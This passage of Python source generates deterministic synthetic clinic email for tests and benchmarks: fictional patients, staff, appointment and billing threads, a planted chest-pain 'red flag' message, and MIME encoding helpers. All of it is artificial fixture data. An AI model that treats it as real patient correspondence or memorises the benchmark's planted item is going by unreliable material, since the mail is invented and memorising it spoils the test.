"""Deterministic, realistic clinic mail for tests and benchmarks.

Benchmarks are only honest if the mail looks like a clinic's: threads between patients
and the front desk, HTML from Outlook, Latin-1 from an old ISP webmail, base64 bodies from
phone apps, encoded names such as José Núñez or 王芳, the occasional scanned insurance card,
and headers as long as real ones (Received chains, DKIM, Exchange noise). Sizes average
~14 KB, so 10,000 messages weigh ~145 MB like a real clinic mailbox.

Everything derives from a seeded `random.Random`, so a (n, seed, end) triple always yields
the same bytes, and messages are built as strings directly (not with `email.message`) so
100,000 of them take seconds.

`hostile_messages()` returns named messages crafted to break parsers, terminals and
threading: escape sequences, Rich markup, bidi overrides, bad charsets, deep nesting,
duplicate or missing Message-IDs, a 20 MB attachment, broken base64 and NUL bytes.
"""

from __future__ import annotations

import base64
import binascii
import datetime as dt
import functools
import html
import random
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field

__all__ = [
    "CLINIC_DOMAIN",
    "CLINIC_MAILBOXES",
    "RED_FLAG_SUBJECT",
    "generate_corpus",
    "hostile_messages",
]

CLINIC_DOMAIN = "riverside-clinic.example"
CLINIC_NAME = "Riverside Family Clinic"
CLINIC_MAILBOXES = {
    "appointments": f"appointments@{CLINIC_DOMAIN}",
    "billing": f"billing@{CLINIC_DOMAIN}",
    "results": f"results@{CLINIC_DOMAIN}",
}
_MAILBOX_TITLES = {
    "appointments": "Appointments",
    "billing": "Billing Office",
    "results": "Nurse Line",
}
RED_FLAG_SUBJECT = "chest pain since this morning"
_MX = f"mx1.{CLINIC_DOMAIN}"
_CLINIC_OFFSET_MIN = -300
_WINDOW_DAYS = 90
_HOUR = 3600.0

# ------------------------------------------------------------------------- people


@dataclass(frozen=True, slots=True)
class _Person:
    name: str
    address: str
    profile: str
    offset_min: int


@dataclass(frozen=True, slots=True)
class _Staff:
    name: str
    first: str
    title: str
    mailbox: str


# (display name, e-mail local part). Family name first for 王芳 as she writes it.
_PATIENT_NAMES: tuple[tuple[str, str], ...] = (
    ("José Núñez", "jose.nunez"),
    ("Zoë Clarke", "zoe.clarke"),
    ("Søren Kjær", "soren.kjaer"),
    ("王芳", "wang.fang"),
    ("François Lefèvre", "f.lefevre"),
    ("Björn Ångström", "bjorn.angstrom"),
    ("Siobhán Ó Briain", "siobhan.obriain"),
    ("Nguyễn Văn An", "an.nguyen"),
    ("Ayşe Yılmaz", "ayse.yilmaz"),
    ("Łukasz Wójcik", "lukasz.wojcik"),
    ("Renée Dubois", "renee.dubois"),
    ("Jürgen Müller", "j.mueller"),
    ("María García", "maria.garcia"),
    ("Chloé Martin", "chloe.martin"),
    ("Dolores Peña", "dpena"),
    ("Hiroshi Tanaka", "htanaka"),
    ("Olúwaseun Adébáyọ̀", "seun.adebayo"),
    ("Мария Иванова", "m.ivanova"),
    ("Linda Johnson", "linda.johnson"),
    ("Robert Smith", "bob.smith"),
    ("Patricia Williams", "pat.williams"),
    ("Michael Brown", "mbrown"),
    ("Jennifer Davis", "jen.davis"),
    ("James Miller", "jmiller"),
    ("Elizabeth Wilson", "liz.wilson"),
    ("David Moore", "dmoore"),
    ("Barbara Taylor", "barb.taylor"),
    ("Richard Anderson", "randerson"),
    ("Susan Thomas", "sue.thomas"),
    ("Joseph Jackson", "joe.jackson"),
    ("Karen White", "karen.white"),
    ("Thomas Harris", "tharris"),
    ("Nancy Martinez", "nancy.martinez"),
    ("Christopher Thompson", "chris.t"),
    ("Lisa Robinson", "lisa.robinson"),
    ("Daniel Clark", "dan.clark"),
    ("Betty Rodriguez", "betty.rodriguez"),
    ("Matthew Lewis", "mlewis"),
    ("Sandra Lee", "sandra.lee"),
    ("Anthony Walker", "tony.walker"),
    ("Ashley Hall", "ashley.hall"),
    ("Mark Allen", "mark.allen"),
    ("Dorothy Young", "dot.young"),
    ("Steven Hernández", "steve.hernandez"),
    ("Kimberly King", "kim.king"),
    ("Paul Wright", "paul.wright"),
    ("Emily Scott", "emily.scott"),
    ("Andrew Green", "agreen"),
    ("Donna Adams", "donna.adams"),
    ("Joshua Baker", "josh.baker"),
    ("Michelle Nelson", "michelle.nelson"),
    ("Kevin O'Brien", "kevin.obrien"),
    ("Carol Mitchell", "carol.mitchell"),
    ("Brian Pérez", "brian.perez"),
    ("Amanda Roberts", "amanda.roberts"),
    ("Aisha Khan", "aisha.khan"),
    ("Mohammed Al-Sayed", "m.alsayed"),
    ("Priya Sharma", "priya.sharma"),
    ("Wei Chen", "wei.chen"),
    ("Fatima Zahra Benali", "fz.benali"),
)

# domain -> mail client profile. Reserved .example names: plausible, never deliverable.
_PATIENT_DOMAINS: tuple[tuple[str, str, int], ...] = (
    ("gmail.example", "gmail", 34),
    ("yahoo.example", "phone", 10),
    ("outlook.example", "outlook", 14),
    ("hotmail.example", "outlook", 8),
    ("icloud.example", "apple", 14),
    ("comcast.example", "webmail", 6),
    ("earthlink.example", "webmail", 4),
    ("proton.example", "apple", 3),
    ("aol.example", "phone", 7),
)
_DOMAIN_WEIGHTS = [weight for _domain, _profile, weight in _PATIENT_DOMAINS]
_PATIENT_OFFSETS = (-300, -300, -300, -360, -360, -240, -420, -480, 0)

_STAFF: tuple[_Staff, ...] = (
    _Staff("Maria López", "Maria", "Front Desk Coordinator", "appointments"),
    _Staff("Tomás Herrera", "Tomás", "Patient Services", "appointments"),
    _Staff("Jenna Walsh", "Jenna", "Front Desk", "appointments"),
    _Staff("Dan Whitaker", "Dan", "Billing Specialist", "billing"),
    _Staff("Grace Liu", "Grace", "Billing Office", "billing"),
    _Staff("Priya Raman, RN", "Priya", "Nurse Line", "results"),
    _Staff("Keith Morales, LPN", "Keith", "Clinical Support", "results"),
)

_DOCTORS = ("Dr. Patel", "Dr. Okafor", "Dr. Lindqvist", "Dr. Nakamura", "Dr. Brennan", "Dr. Gómez")
_MEDS = (
    ("lisinopril", "10 mg"),
    ("metformin", "500 mg"),
    ("atorvastatin", "20 mg"),
    ("levothyroxine", "75 mcg"),
    ("sertraline", "50 mg"),
    ("amlodipine", "5 mg"),
    ("omeprazole", "20 mg"),
    ("albuterol inhaler", "90 mcg"),
    ("losartan", "50 mg"),
    ("gabapentin", "300 mg"),
)
_PHARMACIES = ("Walgreens on Main St", "CVS on Elm", "the Costco pharmacy", "Riverside Pharmacy")
_INSURERS = ("BlueCross BlueShield", "Aetna", "UnitedHealthcare", "Cigna", "Humana", "Medicaid")
_TESTS = ("A1C", "lipid panel", "CBC", "thyroid (TSH)", "vitamin D", "metabolic panel")
_SPECIALISTS = ("dermatology", "cardiology", "orthopedics", "physical therapy", "ENT", "GI")
_DAYS_OF_WEEK = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday")
_TIMES = ("8:15 am", "9:00 am", "9:45 am", "10:30 am", "11:15 am", "1:30 pm", "2:45 pm", "3:30 pm")
_MONTH_NAMES = (
    "January", "February", "March", "April", "May", "June",
    "July", "August", "September", "October", "November", "December",
)
_RFC_DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
_RFC_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

# ------------------------------------------------------------------------- topics


@dataclass(frozen=True, slots=True)
class _Topic:
    key: str
    mailbox: str
    weight: int
    subjects: tuple[str, ...]
    openers: tuple[str, ...]
    details: tuple[str, ...]
    replies: tuple[str, ...]
    attachment: str
    filenames: tuple[str, ...]


_TOPICS: tuple[_Topic, ...] = (
    _Topic(
        key="appointment",
        mailbox="appointments",
        weight=24,
        subjects=(
            "Appointment request",
            "New patient appointment",
            "Need to see {doctor}",
            "Annual physical",
            "Appointment for my son",
            "Cita médica para {first}",
            "Sick visit this week?",
        ),
        openers=(
            "I would like to schedule an appointment with {doctor} sometime next week if possible.",
            "Hello, I'm hoping to book my annual physical. It has been a little over a year since my last one.",
            "My son {child} has had a sore throat and a low fever for two days and I'd like him to be seen.",
            "I am a new patient and my insurance is {insurer}. Are you accepting new patients with {doctor}?",
            "Could I get an appointment for a follow-up on my blood pressure? {doctor} asked me to come back in three months.",
        ),
        details=(
            "Mornings work best for me, ideally before 10 am because I work the afternoon shift.",
            "I can do {day} or {day2} afternoon, anything after 1 pm.",
            "My date of birth is {dob} in case you need it to find my chart.",
            "I tried calling {phone} this morning but the line was busy for a long time.",
            "If there is a cancellation list, please put me on it.",
            "I will need a work note for the visit as well.",
            "Please let me know if I need to fill out any forms before I come in.",
            "It is not urgent, but I would like to be seen within the next two weeks.",
            "The online portal would not let me pick a time, it just keeps showing an error.",
        ),
        replies=(
            "Thank you for reaching out. I have scheduled you with {doctor} on {day}, {date} at {time}. Please arrive 15 minutes early to check in and bring your insurance card and a photo ID.",
            "We have an opening with {doctor} on {day} at {time}, or the following week on {day2} at 9:00 am. Please reply with the time that suits you and I will confirm it.",
            "{doctor} is not taking new patients at the moment, but {doctor2} has availability on {day} at {time}. Would that work for you?",
        ),
        attachment="pdf",
        filenames=(
            "New_Patient_Forms.pdf",
            "intake_form_signed.pdf",
            "Aufnahmeformular_Überweisung.pdf",
        ),
    ),
    _Topic(
        key="reschedule",
        mailbox="appointments",
        weight=16,
        subjects=(
            "Reschedule my appointment on {date}",
            "Need to change appointment time",
            "Can't make it {day}",
            "RESCHEDULE - {first} {initial}.",
        ),
        openers=(
            "I have an appointment on {day}, {date} at {time} with {doctor} but something came up at work and I need to move it.",
            "Unfortunately I have to reschedule my appointment this {day}. My car is in the shop.",
            "I need to change my appointment on {date}; my daughter's school just called about a conflict.",
        ),
        details=(
            "Any day the week after would be fine, preferably in the morning.",
            "Sorry for the short notice, I know you have a 24 hour policy.",
            "Please don't cancel my lab order, I still want to get the blood work done before the visit.",
            "If {doctor} has nothing soon I am fine seeing the nurse practitioner.",
            "I can be reached at {phone} during the day.",
        ),
        replies=(
            "No problem at all. I have moved your appointment to {day2}, {date2} at {time}. You will receive a confirmation text shortly.",
            "I cancelled your {date} visit. {doctor}'s next opening is {day2} at {time}; shall I book it for you?",
            "Thanks for letting us know. There is no fee since you told us more than 24 hours ahead. Your new time is {day2} at {time}.",
        ),
        attachment="pdf",
        filenames=("work_schedule.pdf",),
    ),
    _Topic(
        key="refill",
        mailbox="appointments",
        weight=15,
        subjects=(
            "Prescription refill - {med}",
            "Refill request – {med}",
            "Refill {med} {dose}",
            "Need my meds refilled",
        ),
        openers=(
            "Could you please send a refill for my {med} {dose} to {pharmacy}? I have about four days left.",
            "I am almost out of {med} and the pharmacy says the prescription has no refills left.",
            "{doctor} said at my last visit that she would renew my {med} but the pharmacy has not received anything yet.",
        ),
        details=(
            "I take it once a day in the morning.",
            "My date of birth is {dob}.",
            "I switched pharmacies last month, so please make sure it goes to {pharmacy} and not the old one.",
            "If I need to come in for a visit before the refill, please let me know.",
            "Could it be a 90 day supply? My insurance covers that now.",
        ),
        replies=(
            "I have sent your refill request to {doctor}. Refills are usually processed within two business days, and the pharmacy will text you when it is ready.",
            "{doctor} approved a 90 day supply of {med} {dose}; it was sent to {pharmacy} this afternoon.",
            "{doctor} would like to see you before renewing {med}. I can offer {day} at {time}; a 30 day bridge supply was sent to {pharmacy} in the meantime.",
        ),
        attachment="jpeg",
        filenames=("IMG_4821.JPG", "pill_bottle.jpg"),
    ),
    _Topic(
        key="lab_question",
        mailbox="results",
        weight=13,
        subjects=(
            "Question about my lab results",
            "Blood test results?",
            "{test} results",
            "Résultats d'analyse",
        ),
        openers=(
            "I saw my {test} results in the portal and one number is marked high. Should I be worried?",
            "I had blood drawn on {date} and have not heard anything back yet. Are the results in?",
            "The portal shows my {test} came back but there is no comment from {doctor}.",
        ),
        details=(
            "I was fasting for twelve hours before the test like I was told.",
            "Last year the same value was normal, so I am a bit confused.",
            "I would prefer a call back rather than email if it is anything serious. My number is {phone}.",
            "I also wanted to ask whether I should keep taking my {med} until I hear back.",
            "My insurance requires the results to be sent to {specialist}, can you do that?",
        ),
        replies=(
            "{doctor} has reviewed your {test} and says the result is only slightly outside the range and nothing to worry about. She suggests repeating it in three months.",
            "Your results arrived this morning. {doctor} will review them by the end of the day and either call you or post a note in the portal.",
            "{doctor} would like to go over your results in person. I have held {day} at {time} for you; please reply to confirm.",
        ),
        attachment="pdf",
        filenames=("lab_report.pdf", "Bloodwork_{date_compact}.pdf"),
    ),
    _Topic(
        key="billing",
        mailbox="billing",
        weight=12,
        subjects=(
            "Billing question - account {acct}",
            "Charged twice?",
            "Dispute: statement dated {date}",
            "Bill I don't understand",
        ),
        openers=(
            "I received a statement for {amount} for my visit on {date}, but my insurance ({insurer}) should have covered this in full.",
            "It looks like I was charged twice for the same visit. My account number is {acct}.",
            "I got a bill from you for {amount} and I already paid my copay at the front desk.",
        ),
        details=(
            "The explanation of benefits from {insurer} says the patient responsibility is $0.00 (claim {claim}).",
            "I have attached the EOB they sent me.",
            "Please do not send this to collections, I am happy to pay whatever I actually owe.",
            "Can I set up a payment plan if the balance is correct?",
            "I called on {day} and was told someone would call back but nobody did.",
        ),
        replies=(
            "Thank you for your patience. I looked into account {acct}: {insurer} processed the claim with the wrong date of service. I have resubmitted it and placed your account on hold for 30 days.",
            "You are right, the second charge of {amount} was a duplicate and has been reversed. You should see the credit within 5 to 7 business days.",
            "The balance of {amount} is your deductible for this year according to {insurer}. We can split it into three monthly payments if that helps.",
        ),
        attachment="pdf",
        filenames=("EOB_{date_compact}.pdf", "statement.pdf", "Scan_0042.pdf"),
    ),
    _Topic(
        key="insurance",
        mailbox="billing",
        weight=9,
        subjects=("New insurance card", "Updated insurance information", "Insurance change"),
        openers=(
            "I have new insurance starting this month: {insurer}. My member ID is {member}.",
            "Please update my insurance before my appointment on {date}; I switched jobs and now have {insurer}.",
        ),
        details=(
            "Attached are photos of the front and back of the card.",
            "The group number is on the back of the card.",
            "My old insurance ended on the last day of last month.",
            "Can you confirm {doctor} is in network with {insurer}?",
        ),
        replies=(
            "Thank you, I have updated your chart with the new {insurer} information and verified your eligibility. {doctor} is in network.",
            "We received your card, but the back was cut off in the photo. Could you send another picture showing the phone numbers on the back?",
        ),
        attachment="jpeg",
        filenames=("insurance_card_front.jpg", "IMG_20250311_093512.jpg", "card.jpeg"),
    ),
    _Topic(
        key="referral",
        mailbox="appointments",
        weight=7,
        subjects=("Referral to {specialist}", "Need a referral", "Referral status?"),
        openers=(
            "{doctor} mentioned I would need a referral to {specialist}. Has it been sent yet?",
            "My insurance ({insurer}) requires a referral for {specialist}. Could you send one over?",
        ),
        details=(
            "The specialist's office fax number is (555) 010-7781.",
            "They told me they cannot book me until they have the referral.",
            "It is for the knee pain I saw {doctor} about on {date}.",
        ),
        replies=(
            "The referral to {specialist} was faxed this morning. Please allow the office a couple of days to process it before you call them.",
            "{doctor} signed the referral today. I have attached a copy for your records.",
        ),
        attachment="pdf",
        filenames=("Referral_Letter.pdf", "referral_{specialist}.pdf"),
    ),
    _Topic(
        key="records",
        mailbox="results",
        weight=4,
        subjects=("Medical records request", "Copy of my records", "Immunization record"),
        openers=(
            "I need a copy of my immunization records for my new job by {date}.",
            "Could you send my records from the last two years to my new doctor?",
        ),
        details=(
            "I signed the release form at the front desk last week.",
            "Email is fine, or I can pick them up.",
        ),
        replies=(
            "Your immunization record is ready. For your privacy we have posted it in the patient portal rather than sending it by email.",
            "We have received your request. Records are released within 10 business days once the signed authorization is on file.",
        ),
        attachment="pdf",
        filenames=("records_release.pdf",),
    ),
)
_TOPIC_WEIGHTS = [topic.weight for topic in _TOPICS]

_PATIENT_FOLLOWUPS = (
    "Thank you so much, that works for me.",
    "Great, see you then.",
    "Thanks! One more question: should I bring my medication list?",
    "That time does not work after all, do you have anything later in the day?",
    "Thanks for the quick reply.",
    "I still have not heard from the pharmacy, could you check again?",
    "Sorry, I forgot to mention that my phone number changed to {phone}.",
    "Perfect. Does {doctor} also do telehealth visits?",
    "Ok thank you. Will I get a reminder the day before?",
)
_STAFF_FOLLOWUPS = (
    "You're welcome! Let us know if you need anything else.",
    "Yes, please bring a list of all medications including vitamins and supplements.",
    "I checked with the pharmacy and they have it now; it should be ready after 4 pm.",
    "I have updated your phone number in your chart.",
    "Yes, {doctor} offers telehealth on Tuesdays and Thursdays. I can switch your visit if you prefer.",
    "Yes, you will get a text and an email reminder 24 hours before.",
)

_RED_FLAG_BODY = (
    "Hi, I have had chest pain since this morning, it feels like pressure in the middle of "
    "my chest and it goes into my left arm when I walk up the stairs. I also feel a bit short "
    "of breath and sweaty. I did not want to bother anyone on the phone so I thought I would "
    "email. Can I get an appointment with {doctor} tomorrow or is {day} the earliest?"
)

_DISCLAIMER = (
    "CONFIDENTIALITY NOTICE: This e-mail message, including any attachments, is for the sole "
    "use of the intended recipient(s) and may contain confidential and privileged information, "
    "including protected health information. Any unauthorized review, use, disclosure or "
    "distribution is prohibited. If you are not the intended recipient, please contact the "
    "sender by reply e-mail and destroy all copies of the original message. Email is not a "
    "secure channel: please do not send urgent medical questions by email. If this is an "
    "emergency, call 911."
)

# ------------------------------------------------------------------ low-level text


def _fmt_date(ts: float, offset_min: int) -> str:
    """RFC 5322 date in the sender's own zone, as their client would write it."""
    t = time.gmtime(ts + offset_min * 60)
    sign = "+" if offset_min >= 0 else "-"
    off = abs(offset_min)
    return (
        f"{_RFC_DAYS[t.tm_wday]}, {t.tm_mday} {_RFC_MONTHS[t.tm_mon - 1]} {t.tm_year} "
        f"{t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d} {sign}{off // 60:02d}{off % 60:02d}"
    )


def _b64_lines(data: bytes) -> str:
    """Base64 in 76-character CRLF lines, as MIME requires."""
    return base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")


_Q_SAFE = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def _encoded_words(text: str, charset: str, mode: str) -> str:
    """RFC 2047 encoded words (each <= 75 chars), folded with CRLF+space between them."""
    words: list[str] = []
    prefix = f"=?{charset}?{mode}?"
    chunk = ""
    budget = 75 - len(prefix) - 2
    for char in text:
        candidate = chunk + char
        raw = candidate.encode(charset)
        size = (len(raw) + 2) // 3 * 4 if mode == "B" else sum(
            1 if byte in _Q_SAFE or byte == 0x20 else 3 for byte in raw
        )
        if size > budget and chunk:
            words.append(_encode_chunk(chunk, charset, mode, prefix))
            chunk = char
        else:
            chunk = candidate
    if chunk:
        words.append(_encode_chunk(chunk, charset, mode, prefix))
    return "\r\n ".join(words)


def _encode_chunk(chunk: str, charset: str, mode: str, prefix: str) -> str:
    raw = chunk.encode(charset)
    if mode == "B":
        body = base64.b64encode(raw).decode("ascii")
    else:
        body = "".join(
            "_" if byte == 0x20 else chr(byte) if byte in _Q_SAFE else f"={byte:02X}"
            for byte in raw
        )
    return f"{prefix}{body}?="


_SPECIALS = frozenset('()<>[]:;@\\,."')


def _header_text(text: str, charset: str, mode: str) -> str:
    """Unstructured header text: ASCII stays as is, anything else becomes encoded words."""
    if text.isascii():
        return text
    return _encoded_words(text, charset, mode)


def _fmt_addr(name: str, address: str, charset: str, mode: str) -> str:
    """A mailbox with display name, quoted or encoded the way mail clients do it."""
    if not name:
        return address
    if not name.isascii():
        return f"{_encoded_words(name, charset, mode)} <{address}>"
    if any(char in _SPECIALS for char in name) or "'" in name:
        escaped = name.replace("\\", "\\\\").replace('"', '\\"')
        return f'"{escaped}" <{address}>'
    return f"{name} <{address}>"


def _fits(text: str, charset: str) -> bool:
    try:
        text.encode(charset)
    except UnicodeEncodeError:
        return False
    return True


# --------------------------------------------------------------------- attachments


@functools.lru_cache(maxsize=64)
def _attachment_payload(kind: str, index: int) -> tuple[int, str]:
    """(decoded size, base64 text) of a cached fake PDF or JPEG of 20-200 KB.

    Cached because base64-encoding fresh random bytes for every attachment would dominate
    generation time; a handful of distinct payloads is enough for storage and parsing cost.
    """
    rng = random.Random(f"{kind}-{index}")
    size = rng.randint(20_000, 200_000)
    if kind == "jpeg":
        data = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00"
        data += rng.randbytes(size - len(data) - 2) + b"\xff\xd9"
    else:
        data = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        data += rng.randbytes(size - len(data) - 7) + b"\n%%EOF\n"
    return len(data), _b64_lines(data)


_PAYLOADS_PER_KIND = 12

# ----------------------------------------------------------------- mail clients

_OUTLOOK_STYLE = (
    "<style><!--\r\n/* Font Definitions */\r\n@font-face\r\n\t{font-family:\"Cambria Math\";\r\n"
    "\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\r\n@font-face\r\n\t{font-family:Calibri;\r\n"
    "\tpanose-1:2 15 5 2 2 2 4 3 2 4;}\r\n/* Style Definitions */\r\n"
    "p.MsoNormal, li.MsoNormal, div.MsoNormal\r\n\t{margin:0in;\r\n\tfont-size:11.0pt;\r\n"
    "\tfont-family:\"Calibri\",sans-serif;}\r\na:link, span.MsoHyperlink\r\n"
    "\t{mso-style-priority:99;\r\n\tcolor:#0563C1;\r\n\ttext-decoration:underline;}\r\n"
    "span.EmailStyle17\r\n\t{mso-style-type:personal-compose;\r\n"
    "\tfont-family:\"Calibri\",sans-serif;\r\n\tcolor:windowtext;}\r\n.MsoChpDefault\r\n"
    "\t{mso-style-type:export-only;\r\n\tfont-family:\"Calibri\",sans-serif;}\r\n"
    "@page WordSection1\r\n\t{size:8.5in 11.0in;\r\n\tmargin:1.0in 1.0in 1.0in 1.0in;}\r\n"
    "div.WordSection1\r\n\t{page:WordSection1;}\r\n--></style><!--[if gte mso 9]><xml>\r\n"
    "<o:shapedefaults v:ext=\"edit\" spidmax=\"1026\" />\r\n</xml><![endif]--><!--[if gte mso 9]>"
    "<xml>\r\n<o:shapelayout v:ext=\"edit\">\r\n<o:idmap v:ext=\"edit\" data=\"1\" />\r\n"
    "</o:shapelayout></xml><![endif]-->"
)


@dataclass(frozen=True, slots=True)
class _Style:
    """How one kind of mail client encodes a message."""

    charsets: tuple[str, ...]
    text_cte: str
    header_mode: str
    html_rate: float
    reply_prefix: str


_STYLES: dict[str, _Style] = {
    "gmail": _Style(("UTF-8",), "quoted-printable", "B", 0.35, "Re: "),
    "outlook": _Style(("windows-1252", "utf-8"), "quoted-printable", "Q", 0.45, "RE: "),
    "apple": _Style(("utf-8",), "quoted-printable", "Q", 0.2, "Re: "),
    "webmail": _Style(("iso-8859-1", "utf-8"), "8bit", "Q", 0.05, "Re: "),
    "phone": _Style(("UTF-8",), "base64", "B", 0.15, "Re: "),
    "staff": _Style(("windows-1252", "utf-8"), "quoted-printable", "Q", 0.3, "RE: "),
}


# ---------------------------------------------------------------------- planning


@dataclass(slots=True)
class _Thread:
    topic: _Topic
    patient: _Person
    staff: _Staff
    slots: dict[str, str]
    subject: str
    cc: _Person | None
    red_flag: bool = False
    remaining: int = 0
    last_id: str = ""
    references: list[str] = field(default_factory=list)
    last_text: str = ""
    last_from: str = ""
    last_date: str = ""
    last_subject: str = ""


@dataclass(frozen=True, slots=True)
class _Planned:
    ts: float
    order: int
    thread: _Thread
    position: int


def _next_business_time(ts: float, rng: random.Random) -> float:
    """Move a staff reply into clinic hours (Mon-Fri 8:00-17:00 clinic time)."""
    local = ts + _CLINIC_OFFSET_MIN * 60
    for _ in range(8):
        t = time.gmtime(local)
        if t.tm_wday < 5 and 8 <= t.tm_hour < 17:
            return local - _CLINIC_OFFSET_MIN * 60
        day_start = local - (t.tm_hour * 3600 + t.tm_min * 60 + t.tm_sec)
        if t.tm_wday < 5 and t.tm_hour < 8:
            local = day_start + 8 * _HOUR + rng.uniform(0, 5400)
        else:
            local = day_start + 24 * _HOUR + 8 * _HOUR + rng.uniform(0, 5400)
    return local - _CLINIC_OFFSET_MIN * 60


class _CorpusBuilder:
    """Plans threads over the window, then renders messages in arrival order."""

    def __init__(self, n: int, seed: int, end: dt.datetime) -> None:
        self.n = n
        self.rng = random.Random(seed)
        self.end = end.timestamp()
        self.start = self.end - _WINDOW_DAYS * 86400
        self.seed = seed
        self.serial = 0

    # ---------------------------------------------------------------- planning

    def _patient(self) -> _Person:
        rng = self.rng
        name, local = rng.choice(_PATIENT_NAMES)
        domain, profile, _weight = rng.choices(_PATIENT_DOMAINS, weights=_DOMAIN_WEIGHTS)[0]
        if rng.random() < 0.4:
            local = f"{local}{rng.randint(1, 99)}"
        return _Person(name, f"{local}@{domain}", profile, rng.choice(_PATIENT_OFFSETS))

    def _slots(self, patient: _Person) -> dict[str, str]:
        rng = self.rng
        med, dose = rng.choice(_MEDS)
        day, day2 = rng.sample(_DAYS_OF_WEEK, 2)
        doctor, doctor2 = rng.sample(_DOCTORS, 2)
        month = rng.randrange(12)
        dom = rng.randint(1, 28)
        first = patient.name.split()[0] if " " in patient.name else patient.name
        return {
            "first": first,
            "initial": (patient.name.split()[-1][:1] or "X"),
            "doctor": doctor,
            "doctor2": doctor2,
            "day": day,
            "day2": day2,
            "date": f"{_MONTH_NAMES[month]} {dom}",
            "date2": f"{_MONTH_NAMES[(month + (dom + 7) // 28) % 12]} {(dom + 7) % 28 or 28}",
            "date_compact": f"2025{month + 1:02d}{dom:02d}",
            "time": rng.choice(_TIMES),
            "med": med,
            "dose": dose,
            "pharmacy": rng.choice(_PHARMACIES),
            "insurer": rng.choice(_INSURERS),
            "member": f"{rng.choice('ABHKWX')}{rng.randint(10**8, 10**9 - 1)}",
            "amount": f"${rng.randint(25, 1400)}.{rng.randint(0, 99):02d}",
            "acct": f"{rng.randint(100000, 999999)}",
            "claim": f"{rng.randint(10**10, 10**11 - 1)}",
            "test": rng.choice(_TESTS),
            "specialist": rng.choice(_SPECIALISTS),
            "dob": f"{rng.randint(1, 12):02d}/{rng.randint(1, 28):02d}/{rng.randint(1938, 2012)}",
            "phone": f"(555) 01{rng.randint(0, 9)}-{rng.randint(1000, 9999)}",
            "child": rng.choice(("Mateo", "Liam", "Noah", "Oliver", "Ethan", "Lucas")),
        }

    def _new_thread(self, red_flag: bool = False) -> _Thread:
        rng = self.rng
        topic = _TOPICS[0] if red_flag else rng.choices(_TOPICS, weights=_TOPIC_WEIGHTS)[0]
        patient = self._patient()
        staff = rng.choice([s for s in _STAFF if s.mailbox == topic.mailbox])
        slots = self._slots(patient)
        subject = RED_FLAG_SUBJECT if red_flag else rng.choice(topic.subjects).format_map(slots)
        cc = self._patient() if rng.random() < 0.05 else None
        return _Thread(topic, patient, staff, slots, subject, cc, red_flag)

    def plan(self) -> list[_Planned]:
        """Lay out threads in time until exactly n messages fall inside the window."""
        rng = self.rng
        planned: list[_Planned] = []
        order = 0
        if self.n > 0:
            thread = self._new_thread(red_flag=True)
            thread.remaining = 1
            ts = self.end - rng.uniform(2 * _HOUR, 40 * _HOUR)
            planned.append(_Planned(ts, order, thread, 0))
            order += 1
        lengths = (1, 2, 2, 2, 3, 3, 4, 5, 6)
        length_weights = (30, 20, 10, 5, 12, 8, 9, 4, 2)
        while len(planned) < self.n:
            thread = self._new_thread()
            length = rng.choices(lengths, weights=length_weights)[0]
            ts = self.start + rng.random() * (self.end - self.start)
            count = 0
            for position in range(length):
                if position > 0:
                    if position % 2 == 1:
                        ts = _next_business_time(ts + rng.uniform(0.2, 20) * _HOUR, rng)
                    else:
                        ts += rng.expovariate(1 / (8 * _HOUR)) + 300
                if ts >= self.end or len(planned) >= self.n:
                    break
                planned.append(_Planned(ts, order, thread, position))
                order += 1
                count += 1
            thread.remaining = count
        planned.sort(key=lambda p: (p.ts, p.order))
        return planned

    # --------------------------------------------------------------- rendering

    def _message_id(self, domain: str, profile: str, ts: float) -> str:
        rng = self.rng
        self.serial += 1
        unique = f"{self.seed:x}{self.serial:x}"
        if profile == "gmail":
            token = base64.b64encode(rng.randbytes(24), b"-_").decode("ascii")
            return f"<CA{token}{unique}@mail.gmail.example>"
        if profile in ("outlook", "staff"):
            token = rng.randbytes(16).hex().upper()
            host = "SN6PR04MB4973.namprd04.prod.outlook.example"
            return f"<{token[:12]}{unique}.{token[12:]}@{host}>"
        if profile == "apple":
            token = rng.randbytes(16).hex().upper()
            return f"<{token[:8]}-{token[8:12]}-{token[12:16]}-{unique}@{domain}>"
        return f"<{int(ts)}.{rng.randbytes(6).hex()}.{unique}@{domain}>"

    def _transport_headers(
        self, sender: _Person | None, recipient: str, ts: float, profile: str, domain: str
    ) -> list[str]:
        """Received chain, authentication results and DKIM, as seen at the clinic's MX."""
        rng = self.rng
        arrival = _fmt_date(ts + rng.uniform(1, 20), _CLINIC_OFFSET_MIN)
        envelope = sender.address if sender else recipient
        queue_id = base64.b32encode(rng.randbytes(10)).decode("ascii")[:12]
        relay_ip = f"198.51.100.{rng.randint(2, 254)}"
        relay = f"mail-{rng.choice(('wr1', 'ej1', 'pl1', 'qk1'))}-f{rng.randint(40, 99)}.{domain}"
        lmtp_id = base64.b64encode(rng.randbytes(12)).decode("ascii")
        dkim_b = base64.b64encode(rng.randbytes(256)).decode("ascii")
        dkim_b = "\r\n\t ".join(dkim_b[i : i + 70] for i in range(0, len(dkim_b), 70))
        body_hash = base64.b64encode(rng.randbytes(32)).decode("ascii")
        selector = "20230601" if profile == "gmail" else "selector1"
        lines = [
            f"Return-Path: <{envelope}>",
            f"Delivered-To: {recipient}",
            (f"Received: from {_MX}\r\n\tby {_MX} with LMTP\r\n\tid {lmtp_id}\r\n"
             f"\t(envelope-from <{envelope}>)\r\n\tfor <{recipient}>; {arrival}"),
            (f"Received: from {relay} ({relay} [{relay_ip}])\r\n"
             "\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\r\n"
             "\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\r\n"
